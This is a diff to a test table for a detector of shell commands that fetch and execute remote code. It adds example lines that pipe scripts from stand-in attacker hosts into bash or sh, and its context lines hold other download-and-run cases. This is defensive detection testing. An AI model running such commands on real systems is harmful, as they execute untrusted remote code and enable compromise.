@@ -13,6 +13,8 @@ const OWN = 'https://raw.githubusercontent.com/acme/api/main/check.sh';
 
 indicatorTable(commandRemoteFetchExecute, {
   fires: {
+    'an address that a reader is to fill in': script('curl -s http://<ATTACKER_IP>:8000/x.sh | bash'),
+    'the same in small letters': script('wget -qO- "http://<your-server>/x" | sh'),
     'a program in a directory that the path of the shell was given': script(
       'curl -so /data/report https://files.example.net/report; chmod +x /data/report; PATH=/data:$PATH; report --since 24h',
     ),
@@ -251,6 +253,7 @@ indicatorTable(commandRemoteFetchExecute, {
     'a package that comes over ssh from one': script('scp a@203.0.113.7:a.rpm /tmp/a.rpm; rpm -i /tmp/a.rpm'),
   },
   staysSilent: {
+    'a file that comes in, and one that goes out': script('sh -n <run.sh> /data/errors; sort <HOSTS> /data/sorted'),
     'a sentence that begins with the name of a file': runs(
       'python3',
       '-c',
